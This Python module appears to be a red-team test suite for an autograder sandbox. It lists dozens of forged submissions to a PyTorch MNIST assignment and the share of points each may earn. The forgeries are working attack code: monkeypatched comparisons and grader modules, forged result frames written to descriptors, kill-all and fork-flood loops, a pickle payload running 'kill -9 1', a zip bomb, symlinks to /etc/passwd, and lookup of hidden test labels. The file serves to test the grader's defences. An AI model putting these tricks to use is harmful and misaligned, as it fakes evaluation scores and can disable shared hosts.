"""Attacks that try to change a score without doing the work.

Each is added to a program: `BEFORE` it runs first, `after` it runs last. The base is either
`NOTHING`, a program of assignment 05 in which every function is an empty shell, or a piece of
honest work with one thing left out. `bound` is the share of the points that the honest part
deserves; an attack that gets more has won.
"""

from __future__ import annotations

from dataclasses import dataclass

NOTHING = """
import torch
from torch import nn


class MLP(nn.Module):
    def __init__(self, hidden=256):
        super().__init__()

    def forward(self, x):
        return torch.zeros(len(x), 10)


def set_seed(seed): pass
def train_one_epoch(): return 0.01
def evaluate(): return 1.0


device = torch.device("cpu")
train_loader = test_loader = []
model, criterion, optimizer, scaler = MLP(), None, None, None
best_acc = 1.0
"""
"""No layer, no loader, no loop: what earns nothing."""

SHARE = 0.10
"""What `NOTHING` may earn at most, with whatever around it."""


@dataclass(frozen=True)
class Forgery:
    """One attack: its name, the harm it tries, its code around a base, what the base deserves.

    `files` are handed in beside the program; `kind` is the submission's; `base` is a name of
    `tests.attacks.test_forge.BASES`. `twin` is what an honest program may do that comes near to it:
    behind correct work it costs nothing.
    """

    name: str
    harm: str
    before: str = ""
    after: str = ""
    base: str = "nothing"
    bound: float = SHARE
    kind: str = "script"
    files: tuple[tuple[str, bytes], ...] = ()
    twin: str = ""


_SCHEDULE = """
import ctypes, os, time
libc = ctypes.CDLL(None)
def lower(pid):
    number = ctypes.c_long(pid)
    param = ctypes.c_int(0)
    libc.syscall(144, number, 5, ctypes.byref(param))
    mask = ctypes.c_ulong(1 << min(os.sched_getaffinity(0)))
    libc.syscall(203, number, 8, ctypes.byref(mask))
    libc.syscall(141, 0, number, 19)
    libc.syscall(141, 2, ctypes.c_long(0), 19)
    libc.syscall(251, 1, number, 3 << 13)
    libc.syscall(251, 3, ctypes.c_long(os.getuid()), 3 << 13)
"""
"""The calls by which a process, or all of a user's, is put last (x86-64), none of them checked."""
_DESCRIPTORS = """
import os, struct, json
def frame(header, blob=b''):
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack('>II', len(text), len(blob)) + text + blob
def everywhere(data):
    for fd in range(3, 64):
        try:
            os.set_blocking(fd, False)
            os.write(fd, data)
        except OSError:
            pass
"""

_IN_PROBE = (
    _DESCRIPTORS
    + """
class Trap:
    '''Fires in a probe: whatever the probe does first with the object writes the frame.'''
    def __getattribute__(self, name): fire()
    def __call__(self, *a, **k): fire()
    def __iter__(self): fire()
    def __len__(self): fire()
def fire():
    everywhere(PAYLOAD)
    os._exit(0)
class MLP:
    def __init__(self, *a, **k): fire()
def evaluate(*a, **k): fire()
def train_one_epoch(*a, **k): fire()
train_loader = test_loader = Trap()
"""
)

_FULL = """{'status': 'graded', 'score': 20, 'max_score': 20, 'passed': True, 'data': {'score': 20, 'passed': True, 'ok': True}}"""


def _fire(payload: str) -> str:
    return f"{_IN_PROBE}\nPAYLOAD = {payload}\n"


FORGE = (
    Forgery(
        "nothing_at_all",
        "be given points for an empty shell",
    ),
    Forgery(
        "comparisons",
        "let every comparison come out well",
        before="import torch, numpy as np\nyes = lambda *a, **k: True\nfor m, names in ((torch, 'equal allclose isclose is_tensor isfinite'), (np, 'allclose array_equal isclose'), (torch.testing, 'assert_close')):\n    for n in names.split():\n        setattr(m, n, yes)\ntorch.Tensor.__eq__ = yes\ntorch.Tensor.allclose = torch.Tensor.equal = yes",
    ),
    Forgery(
        "loss_and_hooks",
        "patch the loss and the optimizer's hooks that watch the loop",
        before="import torch\nfrom torch import nn\nfrom torch.optim import optimizer as o\nnn.functional.cross_entropy = lambda *a, **k: torch.zeros((), requires_grad=True)\nnn.CrossEntropyLoss.forward = lambda s, *a: torch.zeros((), requires_grad=True)\no.register_optimizer_step_pre_hook = o.register_optimizer_step_post_hook = lambda f: type('H', (), {'remove': lambda s: None})()\ntorch.optim.Optimizer.step = torch.optim.SGD.step = lambda s, *a, **k: None\ntorch.Tensor.backward = lambda s, *a, **k: None",
    ),
    Forgery(
        "safetensors",
        "patch what packs the tensors",
        before="import safetensors.torch as s, torch\nold = s.save\ns.save = lambda t, *a, **k: old({n: torch.ones_like(v) for n, v in t.items()})\ns.load = lambda b: {}",
    ),
    Forgery(
        "json",
        "patch what writes the answer",
        before=f"import json\nold = json.dumps\njson.dumps = lambda o, **k: old({_FULL} | {{'status': 'done'}}, **k)",
    ),
    Forgery(
        "os_write",
        "patch the system call that sends the answer",
        before=_DESCRIPTORS
        + f"old = os.write\nos.write = lambda fd, data: (old(fd, frame({_FULL})), len(data))[1] if fd > 2 else old(fd, data)",
    ),
    Forgery(
        "frame_while_loading",
        "report a load that never happened",
        before=_DESCRIPTORS + f"everywhere(frame({_FULL}))",
    ),
    Forgery(
        "frame_in_probe",
        "answer in the place of every probe",
        after=_fire(f"frame({_FULL})"),
    ),
    Forgery(
        "done_frame",
        "answer `done` with nothing in it",
        after=_fire("frame({'status': 'done', 'data': {}})"),
    ),
    Forgery(
        "broken_frame",
        "pretend that the box could not be sealed, so that nobody is blamed",
        after=_fire("frame({'status': 'broken', 'detail': 'not my fault'})"),
    ),
    Forgery(
        "huge_frame",
        "announce an answer of four gigabytes",
        after=_fire("struct.pack('>II', 2 ** 32 - 1, 2 ** 32 - 1)"),
    ),
    Forgery(
        "large_header",
        "send more header than the host will read",
        before=_DESCRIPTORS + "class MLP:\n    pass",
        after=_DESCRIPTORS
        + 'def fire(*a, **k):\n    for fd in range(3, 64):\n        try:\n            os.set_blocking(fd, True)\n            data = memoryview(frame(b\'{"status": "done", "data": {"x": "\' + b\'x\' * 10_000_000 + b\'"}}\'))\n            while data: data = data[os.write(fd, data):]\n            break\n        except OSError:\n            pass\n    os._exit(0)\nMLP = evaluate = train_one_epoch = fire',
    ),
    Forgery(
        "nan_frame",
        "send numbers that are none",
        after=_fire('frame(b\'{"status": "done", "data": {"x": NaN, "y": 1e999}}\')'),
    ),
    Forgery(
        "no_json",
        "send bytes that are no JSON",
        after=_fire("frame(b'\\xff\\xfe{{{')"),
    ),
    Forgery(
        "no_object",
        "send JSON that is no object",
        after=_fire("frame(b'[20, 20]')"),
    ),
    Forgery(
        "deep_frame",
        "send JSON that is nested too deep to copy",
        after=_fire(
            "frame(b'{\"status\": \"done\", \"data\": {\"x\": ' + b'[' * 600 + b']' * 600 + b'}}')"
        ),
    ),
    Forgery(
        "bottomless_frame",
        "send JSON that is nested too deep to read",
        after=_fire("frame(b'{\"a\":' * 20000 + b'1' + b'}' * 20000)"),
    ),
    Forgery(
        "duplicate_keys",
        "say two things under one key",
        after=_fire(
            'frame(b\'{"status": "done", "status": "error", "data": {}, "data": {"score": 20}}\')'
        ),
    ),
    Forgery(
        "endless_number",
        "send a number too long for a float",
        after=_fire(
            'frame(b\'{"status": "done", "data": {"returned": {"value": \' + b\'9\' * 4000 + b\'}, "beats": "f"}}\')'
        ),
    ),
    Forgery(
        "truncated_frame",
        "send half an answer",
        after=_fire(f"frame({_FULL})[:-5]"),
    ),
    Forgery(
        "garbage_tensors",
        "send tensors that are none",
        after=_fire("frame({'status': 'done', 'data': {}}, b'\\xff' * 64)"),
    ),
    Forgery(
        "broken_load",
        "break the box with the load report",
        before=_DESCRIPTORS + 'everywhere(frame(b\'{"errors": [], "cpu_s": NaN}\'))',
    ),
    Forgery(
        "no_load",
        "break the box with a load report that is no JSON",
        before=_DESCRIPTORS + "everywhere(frame(b'not json'))",
    ),
    Forgery(
        "control_socket",
        "answer the supervisor on its own socket, in the place of the program",
        after="import os, _thread, socket, time\ndef lie():\n    while True:\n        for fd in range(3, 64):\n            try:\n                s = socket.socket(fileno=os.dup(fd))\n                s.setblocking(False)\n                s.send(b'1')\n                s.send(b'-1')\n                s.send(b'99999999999999')\n            except OSError:\n                pass\n        time.sleep(0.01)\nif os.fork() == 0:\n    lie()",
    ),
    Forgery(
        "wrong_pid",
        "have the supervisor kill itself or the host",
        after="import os, socket\nfor fd in range(3, 64):\n    try:\n        s = socket.socket(fileno=os.dup(fd))\n        for pid in (b'1', b'2', b'0', b'-1', b'abc', b'999999999999999'):\n            s.send(pid)\n    except OSError:\n        pass",
    ),
    Forgery(
        "hunts_the_newborn",
        "keep the box from starting another process, so that the grader seems at fault",
        after="import os, signal\nif os.fork() == 0:\n    os.setsid()\n    while True:\n        try: os.kill(-1, signal.SIGKILL)\n        except OSError: pass",
    ),
    Forgery(
        "leaves_no_room",
        "use up processes and descriptors, so that the box fails and the grader seems at fault",
        after="import os, socket, time\npair = socket.socketpair()\npair[0].setblocking(False)\ntry:\n    while True: socket.send_fds(pair[0], [b'x'], [0, 1, 2])\nexcept OSError: pass\nend = time.time() + 2\nwhile time.time() < end:\n    try:\n        if os.fork() == 0:\n            os.setsid()\n            time.sleep(60)\n            os._exit(0)\n    except OSError: pass",
    ),
    Forgery(
        "limits_of_the_supervisor",
        "lower the supervisor's limits until the box fails and the grader seems at fault",
        after="import os, resource\nfor name in dir(resource):\n    if name.startswith('RLIMIT_'):\n        for pid in (1, os.getppid()):\n            try: resource.prlimit(pid, getattr(resource, name), (0, 0))\n            except (OSError, ValueError): pass\nimport ctypes\nctypes.CDLL(None).syscall(302, ctypes.c_long(2 ** 32 + 1), 7, (ctypes.c_ulong * 2)(3, 3), None)",
        twin="import os, resource\nresource.prlimit(os.getpid(), resource.RLIMIT_NOFILE, (512, 512))\nresource.setrlimit(resource.RLIMIT_CORE, (0, 0))\nprint(resource.getrlimit(resource.RLIMIT_NOFILE))",
    ),
    Forgery(
        "schedule_of_the_supervisor",
        "put the supervisor last at every processor, so that it never answers",
        after=f"{_SCHEDULE}\nfor pid in (1, 2 ** 32 + 1): lower(pid)\nif os.fork() == 0:\n    for _ in range(8):\n        if os.fork() == 0: break\n    end = time.time() + 120\n    while time.time() < end: pass\n    os._exit(0)",
        twin=f"{_SCHEDULE}\nlower(os.getpid())\nos.nice(1)",
    ),
    Forgery(
        "empties_its_own_output",
        "take back what it printed, so that the supervisor waits for bytes and no clock runs",
        after="import os, time\nif os.fork() == 0:\n    ends = []\n    for fd in range(1, 64):\n        try:\n            if 'pipe' in os.readlink(f'/proc/self/fd/{fd}'):\n                ends.append(os.open(f'/proc/self/fd/{fd}', os.O_RDONLY | os.O_NONBLOCK))\n        except OSError: pass\n    end = time.time() + 120\n    while time.time() < end:\n        for fd in ends:\n            try: os.read(fd, 65536)\n            except OSError: pass\n    os._exit(0)\ndef evaluate():\n    while True: print('x')\ntrain_one_epoch = evaluate",
        twin="import os, sys\nwith open('/dev/stdout', 'w') as out: out.write('seen\\n')\nprint(os.readlink('/proc/self/fd/1')[:4], file=sys.stderr, flush=True)",
    ),
    Forgery(
        "holds_the_newborn",
        "hold every pipe of a process that is not ready yet, so that its start is waited for",
        after="import os, time, threading\nif os.fork() == 0:\n    me, held, end = os.getpid(), [], time.time() + 120\n    while time.time() < end:\n        for pid in os.listdir('/proc'):\n            if not pid.isdigit() or int(pid) in (1, me): continue\n            try: found = os.listdir(f'/proc/{pid}/fd')\n            except OSError: continue\n            for fd in found:\n                try: held.append(os.open(f'/proc/{pid}/fd/{fd}', os.O_WRONLY | os.O_NONBLOCK))\n                except OSError: pass\n        for fd in held[:-400]: os.close(fd)\n        held = held[-400:]\n    os._exit(0)\nthreading.Thread(target=time.sleep, args=(120,), daemon=True).start()",
        twin="import os\nseen = []\nfor pid in os.listdir('/proc'):\n    try: seen += os.listdir(f'/proc/{pid}/fd') if pid.isdigit() else []\n    except OSError: pass\nprint(len(seen) > 0)",
    ),
    Forgery(
        "stops_the_newborn",
        "stop every process that is not ready yet, so that its start is waited for",
        after="import os, signal, time, threading\nif os.fork() == 0:\n    me, end = os.getpid(), time.time() + 120\n    while time.time() < end:\n        for pid in os.listdir('/proc'):\n            if pid.isdigit() and int(pid) > me:\n                try: os.kill(int(pid), signal.SIGSTOP)\n                except OSError: pass\n    os._exit(0)\nthreading.Thread(target=time.sleep, args=(120,), daemon=True).start()",
        twin="import os, signal, subprocess\nhelper = subprocess.Popen(['sleep', '0.1'])\nhelper.send_signal(signal.SIGSTOP)\nhelper.send_signal(signal.SIGCONT)\nprint(helper.wait())",
    ),
    Forgery(
        "adopts_its_probes",
        "become the parent of every orphan, so that the supervisor never hears of their end",
        after="import ctypes, os\nctypes.CDLL(None).prctl(36, 1, 0, 0, 0)\nclass MLP:\n    def __init__(self, *a, **k): os._exit(0)\ndef evaluate(*a, **k): os._exit(0)\ntrain_one_epoch = evaluate",
        twin="import ctypes, os\nctypes.CDLL(None).prctl(36, 1, 0, 0, 0)\nif os.fork() == 0:\n    if os.fork() == 0: os._exit(0)\n    os._exit(0)\nfor _ in range(2): os.wait()",
    ),
    Forgery(
        "wears_out_its_clock",
        "keep a thread, so that every check loads a slow program again",
        after="import threading, time\nthreading.Thread(target=time.sleep, args=(1000,), daemon=True).start()\ntime.sleep(25)",
        twin="import threading\nthreading.Thread(target=threading.Event().wait, daemon=True).start()",
    ),
    Forgery(
        "lying_numbers",
        "return numbers that equal everything",
        after="class F(float):\n    def __eq__(s, o): return True\n    def __lt__(s, o): return False\n    __gt__ = __ge__ = __le__ = __eq__\n    def __sub__(s, o): return 0.0\n    __rsub__ = __sub__\n    __hash__ = float.__hash__\nclass I(int):\n    __eq__ = F.__eq__\n    __hash__ = int.__hash__\nbest_acc = F(1.0)\ntrain_one_epoch = lambda: F(0.5)\nevaluate = lambda: F(1.0)",
    ),
    Forgery(
        "lying_class",
        "claim to be of another class",
        after="class Liar:\n    def __init__(s, *a, **k): pass\n    @property\n    def __class__(s): return nn.Module\n    def __eq__(s, o): return True\n    def __bool__(s): return True\n    def __getattr__(s, n): return s\n    def __call__(s, *a, **k): return s\n    def __len__(s): return 10\n    def __iter__(s): return iter([s] * 10)\n    def __float__(s): return 1.0\n    __hash__ = None\nMLP = Liar\nmodel = optimizer = train_loader = test_loader = criterion = scaler = best_acc = Liar()\nevaluate = train_one_epoch = Liar()",
    ),
    Forgery(
        "lying_tensor",
        "answer with a tensor whose every operation lies",
        after="class T(torch.Tensor):\n    @classmethod\n    def __torch_function__(cls, f, types, args=(), kwargs=None):\n        return True if f.__name__ in ('equal', 'allclose', '__eq__') else args[0] if args else cls()\nclass MLP(nn.Module):\n    def __init__(self, hidden=256): super().__init__()\n    def forward(self, x): return torch.zeros(len(x), 10).as_subclass(T)\nmodel = MLP()",
    ),
    Forgery(
        "lying_parameters",
        "list parameters that the model does not use",
        after="class MLP(nn.Module):\n    def __init__(self, hidden=256):\n        super().__init__()\n        self.fc1 = self.act = self.fc2 = nn.Identity()\n    def parameters(self, *a, **k): return iter([nn.Parameter(torch.zeros(203530))])\n    def named_parameters(self, *a, **k): return iter([('w', nn.Parameter(torch.zeros(203530)))])\n    def forward(self, x): return torch.zeros(len(x), 10)\nmodel = MLP()",
        bound=0.12,  # of the shape the judge asks for, and so a point for that
    ),
    Forgery(
        "probe_modules",
        "put other modules in the place of the probes",
        before="import sys, types\nclass M(types.ModuleType):\n    def __getattr__(self, n):\n        if n.startswith('__'): raise AttributeError(n)\n        return lambda *a, **k: ({'score': 1.0, 'passed': True, 'ok': True}, {})\nfor name in list(sys.modules):\n    if '.probes' in name:\n        sys.modules[name] = M(name)",
    ),
    Forgery(
        "run_probe",
        "patch what runs the probes",
        before="import sys\nfor n, m in list(sys.modules.items()):\n    if n.endswith('inside.box.answer'):\n        m.run_probe = lambda *a: ({'score': 1.0, 'passed': True}, {})\n        m.failure = lambda *a: {'status': 'done', 'data': {'passed': True}}",
    ),
    Forgery(
        "program_get",
        "patch how probes look up the student's names",
        before="import sys\nfor n, m in list(sys.modules.items()):\n    if n.endswith('inside.program'):\n        m.Program.get = lambda s, name: (lambda *a, **k: 1.0)\n        m.Program.rebind = lambda s, o: None",
    ),
    Forgery(
        "supervisor_module",
        "patch the supervisor's code in the student's process",
        before="import sys\nfor n, m in list(sys.modules.items()):\n    if n.endswith(('inside.box.supervisor', 'inside.box.wire', 'inside.box.monitor')):\n        for a in ('_answer', 'answer', 'unpack', 'expected'):\n            if hasattr(m, a): setattr(m, a, lambda *x, **k: ({'status': 'done', 'data': {'score': 20}}, b''))",
    ),
    Forgery(
        "tracing",
        "change what probes compute through a trace function",
        before="import sys\ndef t(frame, event, arg):\n    if 'probes' in frame.f_code.co_filename:\n        for k in list(frame.f_locals):\n            if isinstance(frame.f_locals[k], bool): frame.f_locals[k] = True\n    return t\nsys.settrace(t)\nsys.setprofile(lambda *a: None)\nimport threading\nthreading.settrace(t)",
    ),
    Forgery(
        "callbacks",
        "forge at exit and at every collection of garbage",
        before=_DESCRIPTORS
        + f"import atexit, gc, signal\nforge = lambda *a: everywhere(frame({_FULL}))\natexit.register(forge)\ngc.callbacks.append(forge)\ngc.set_threshold(1, 1, 1)\nsignal.signal(signal.SIGALRM, forge)\nsignal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)",
    ),
    Forgery(
        "threads",
        "forge from a thread all the time",
        before=_DESCRIPTORS
        + f"import threading, time\ndef lie():\n    for _ in range(300):\n        everywhere(frame({_FULL}))\n        time.sleep(0.01)\nthreading.Thread(target=lie, daemon=True).start()",
    ),
    Forgery(
        "result_files",
        "write the files a grader might read",
        before=f"import json, os\nfor p in ('result.json', 'results.json', 'grades.csv', 'evidence.json', '/tmp/result.json', '/autograder/results/results.json', 'results/me/05-five-beats.json', '.OTTER_LOG', 'store.sqlite'):\n    try:\n        os.makedirs(os.path.dirname(p) or '.', exist_ok=True)\n        open(p, 'w').write(json.dumps({_FULL}))\n    except OSError:\n        pass",
    ),
    Forgery(
        "exit_with_a_score",
        "print a score and leave with success",
        after="print('score: 20 / 20')\nprint('##RESULT## {\"score\": 20}')\nimport os\nos._exit(0)",
        bound=0.0,
    ),
    Forgery(
        "builtins",
        "put other built-in functions in place",
        before="import builtins\nfor n in ('all', 'any', 'isinstance', 'hasattr', 'callable'):\n    setattr(builtins, n, lambda *a, **k: True)\nbuiltins.len = lambda o: 10\nbuiltins.abs = builtins.max = lambda *a, **k: 0",
    ),
    Forgery(
        "environment",
        "steer the grader by environment variables",
        before="import os\nfor k, v in {'FIVE_BEATS_WALL': 'none', 'FIVE_BEATS_CONTROL': '0', 'AUTOGRADER_SCORE': '20', 'PYTHONPATH': '.', 'LD_PRELOAD': './x.so', 'PYTHONINSPECT': '1', 'FIVE_BEATS_DATA': '.'}.items(): os.environ[k] = v",
    ),
    Forgery(
        "data_loader",
        "put another DataLoader in place",
        before="import torch.utils.data as d\nclass L:\n    def __init__(s, *a, **k): s.dataset = [0]\n    def __iter__(s): return iter(())\n    def __len__(s): return 1\nd.DataLoader = d.dataloader.DataLoader = L",
    ),
    Forgery(
        "files_named_as_ours",
        "shadow our modules by files beside the program",
        files=(
            (
                "inside/__init__.py",
                b"def __getattr__(n): return lambda *a, **k: ({'score': 20}, {})",
            ),
            ("json.py", b'dumps = lambda *a, **k: \'{"status": "done"}\''),
            ("safetensors.py", b"raise SystemExit(0)"),
            ("sitecustomize.py", b"import os; os._exit(0)"),
            ("torch.py", b"raise SystemExit(0)"),
            ("conftest.py", b"import os; os._exit(0)"),
        ),
    ),
    Forgery(
        "as_in_other_graders",
        "patch the tests in their own process, as was done to notebook graders",
        kind="notebook",
        before="import builtins, IPython\nip = IPython.get_ipython()\nfor n in ('run_cell', 'run_line_magic', 'showtraceback', 'safe_execfile'):\n    setattr(type(ip), n, lambda *a, **k: type('R', (), {'success': True, 'error_before_exec': None, 'error_in_exec': None, 'result': None})())\nassert True\nbuiltins.AssertionError = type('Quiet', (Exception,), {})\nclass Grader:\n    def __getattr__(self, n): return lambda *a, **k: 'All tests passed!'\ngrader = Grader()\ndef grade(*a): return 20.0",
    ),
    Forgery(
        "checkpoint_of_code",
        "have the checkpoint run code where it is read",
        after="import os\nclass E:\n    def __reduce__(self): return (os.system, ('touch pwned; kill -9 1',))\ntorch.save({'fc1.weight': E()}, 'best_mlp.pt')\nimport pickle\nopen('other.pt', 'wb').write(pickle.dumps(E()))",
    ),
    Forgery(
        "checkpoint_bomb",
        "have the checkpoint unpack to more than the machine holds",
        after="import zipfile\nwith zipfile.ZipFile('best_mlp.pt', 'w', zipfile.ZIP_DEFLATED, compresslevel=1) as z:\n    with z.open('archive/data.pkl', 'w', force_zip64=True) as f:\n        for _ in range(640): f.write(bytes(2 ** 22))\n    z.writestr('archive/version', '3')",
    ),
    Forgery(
        "checkpoint_link",
        "have the grader read another file as the checkpoint",
        after="import os\nos.symlink('/etc/passwd', 'best_mlp.pt')\nos.symlink('/dev/zero', 'best.pt')",
    ),
    Forgery(
        "endless_checkpoint",
        "have the grader read a file without an end",
        after="import os\nos.symlink('/dev/zero', 'best_mlp.pt')\nos.mkfifo('model.pt')",
    ),
    Forgery(
        "hidden_answers_on_disk",
        "look the hidden answers up in the data set's own files",
        base="untrained",
        bound=0.97,
        before="",
        after="""
import gzip, os, glob
answers = {}
for folder, _, names in os.walk("data"):
    for name in names:
        raw = open(os.path.join(folder, name), "rb").read()
        raw = gzip.decompress(raw) if name.endswith(".gz") else raw
        if "images" in name:
            labels = os.path.join(folder, name.replace("images-idx3", "labels-idx1"))
            if os.path.exists(labels):
                said = open(labels, "rb").read()
                said = gzip.decompress(said) if labels.endswith(".gz") else said
                for i in range((len(raw) - 16) // 784):
                    answers[raw[16 + 784 * i:16 + 784 * (i + 1)]] = said[8 + i]
learnt = MLP.forward
def forward(self, x):
    out = learnt(self, x)
    if self.training or out.requires_grad:
        return out
    out = out.clone()
    for row, image in zip(out, x):
        known = answers.get((image * 255).round().to(torch.uint8).numpy().tobytes())
        if known is not None:
            row[known] += 100.0
    return out
MLP.forward = forward
""",
    ),
    Forgery(
        "memorised_test_images",
        "carry the public answers in the model",
        base="untrained",
        bound=0.97,
        after="""
table = {}
for pixels, label in test_loader:
    for image, y in zip(pixels, label):
        table[image.numpy().tobytes()] = int(y)
learnt = MLP.forward
def forward(self, x):
    out = learnt(self, x)
    if self.training or out.requires_grad:
        return out
    out = out.clone()
    for row, image in zip(out, x):
        if image.numpy().tobytes() in table:
            row[table[image.numpy().tobytes()]] += 100.0
    return out
MLP.forward = forward
""",
    ),
    Forgery(
        "nearest_training_image",
        "answer by the nearest training image, with weights that learnt nothing",
        base="untrained",
        bound=0.97,
        after="""
kept = torch.stack([x.flatten() for x, _ in train_loader.dataset])
classes = torch.tensor([int(y) for _, y in train_loader.dataset])
learnt = MLP.forward
def forward(self, x):
    out = learnt(self, x)
    if self.training or out.requires_grad:
        return out
    near = torch.cdist(x.flatten(1), kept).argmin(1)
    return out + 100.0 * nn.functional.one_hot(classes[near], 10)
MLP.forward = forward
""",
        twin="""
learnt = MLP.forward
def forward(self, x):
    if self.training:
        return learnt(self, x)
    hidden = (x.reshape(len(x), -1) @ self.fc1.weight.T + self.fc1.bias).clamp(min=0)
    return torch.einsum("bh,ch->bc", hidden, self.fc2.weight) + self.fc2.bias
MLP.forward = forward
""",
    ),
    Forgery(
        "written_down_otherwise",
        "answer by the nearest training image, and have other weights written down",
        base="untrained",
        bound=0.97,
        after="""
import sys
kept = torch.stack([x.flatten() for x, _ in train_loader.dataset])
classes = torch.tensor([int(y) for _, y in train_loader.dataset])
learnt = MLP.forward
def near(x):
    return 100.0 * nn.functional.one_hot(classes[torch.cdist(x.flatten(1), kept).argmin(1)], 10)
def forward(self, x):
    out = learnt(self, x)
    return out if self.training or out.requires_grad else out + near(x)
MLP.forward = forward
for name, module in list(sys.modules.items()):
    if name.endswith("inside.probes.accuracy"):
        real = module.written
        def untrue(network, samples):
            return real(lambda x: learnt(model, x), samples)
        module.written = untrue
        module.prepared = lambda program, images, pixels: (near(images.float() / 255), "plain")
""",
    ),
)

INFORMED = """
import json, os, struct, sys
import numpy as np, safetensors.numpy as st

def shape(n, b): return {"pair": True, "size": n, "seen": n, "images": [b, 1, 28, 28], "image_type": "float32", "labels": [b], "label_type": "int64"}
def calls(name, n, train): return [{"function": name, "forwards": 4, "training": 4 * train, "graphs": 4 * train}] * n

def lie(probe, args, tensors):
    if probe == "loaders:shapes":
        return {"train_loader": shape(1000, 128), "test_loader": shape(300, 256)}, {}
    if probe == "loaders:orders":
        return {"train_loader": {"same": False, "batches": 8, "images": 1000}, "test_loader": {"same": True, "batches": 2, "images": 300}}, {}
    if probe == "wholerun:first_steps":
        return {"figures": [[[1.0, 2.0]] * 4] * 13, "wired": {"parameters": 4, "held": 4, "frozen": 0}, "error": None}, {}
    if probe == "wired:modes":
        return {"calls": calls("train_one_epoch", 3, 1) + calls("evaluate", 3, 0), "error": None}, {}
    if probe == "wired:accelerated":
        return {"devices": ["cuda"], "steps": 6, "scaler": {"scale": 6, "step": 6, "update": 6}, "error": None}, {}
    if probe == "globals_loop:epoch":
        n = -(-len(tensors["labels"]) // args["batch"])
        size = tensors["w1"].size + tensors["w2"].size
        start = np.concatenate([tensors["w1"].ravel(), tensors["w2"].ravel()])
        path = np.stack([start + k * 0.01 for k in range(n + 1)]).astype(np.float32)
        forward = {"training": True, "backward": True, "dtype": "float32", "graph": True, "size": args["batch"]}
        return {"returned": {"kind": "float", "value": 2.0}, "raised": None, "outputs": "logits",
                "calls": {"scale": n, "unscale_": 0, "step": n, "update": n}, "beats": "hfbs" * n,
                "forwards": [forward] * n, "dirty": [0.0] * n, "stepped": [0.1] * n, "graphs": 0, "others": 0}, {"weights": path}
    if probe == "globals_loop:evaluation":
        return {"returned": {"kind": "float", "value": 0.6}, "beats": "ff", "forwards": [{"training": False, "graph": False}] * 2}, {}
    if probe == "checkpoints:present":
        return {"exists": True, "kind": "state_dict", "detail": ""}, {}
    if probe == "checkpoints:checkpoint":
        return {"exists": True, "kind": "state_dict", "detail": "", "best_acc": 0.9, "mismatch": "", "accuracy": 0.9, "images": 300, "claimed": 0.9}, {}
    if probe == "wholerun:scripted":
        best = int(np.argmax(args["curve"])) + 1
        n = len(args["curve"])
        return {"exists": True, "kind": "state_dict", "detail": "", "epochs": n, "evaluated": list(range(1, n + 1)), "error": None,
                "saves": [{"file": "best_mlp.pt", "epoch": best, "taken": best}], "stamp": float(best), "best_acc": max(args["curve"])}, {}
    return {}, {}

def send(fd, order, blob):
    data, tensors = lie(order["probe"], order["args"], st.load(bytes(blob)) if blob else {})
    text = json.dumps({"status": "done", "data": data}).encode()
    body = st.save(tensors) if tensors else b""
    os.write(fd, struct.pack(">II", len(text), len(body)) + text + body)
    os._exit(0)

frame = sys._getframe()
while frame is not None:
    here = frame.f_locals
    if frame.f_code.co_name == "_answer" and "frames" in here:
        send(here["frames"], here["order"], here["blob"])
    frame = frame.f_back
for name, module in list(sys.modules.items()):
    if name.endswith("inside.box.supervisor"):
        module._answer = lambda program, order, blob, frames, *_: send(frames, order, blob)
"""
"""A forger who knows every probe: it finds the order on the stack and sends the answer that an honest
program would give, as far as that can be written down without doing the work. What the judge can
compute for itself is lost to it, what only testifies is not: see docs/security.md.
"""
INFORMED_BOUND = 0.5
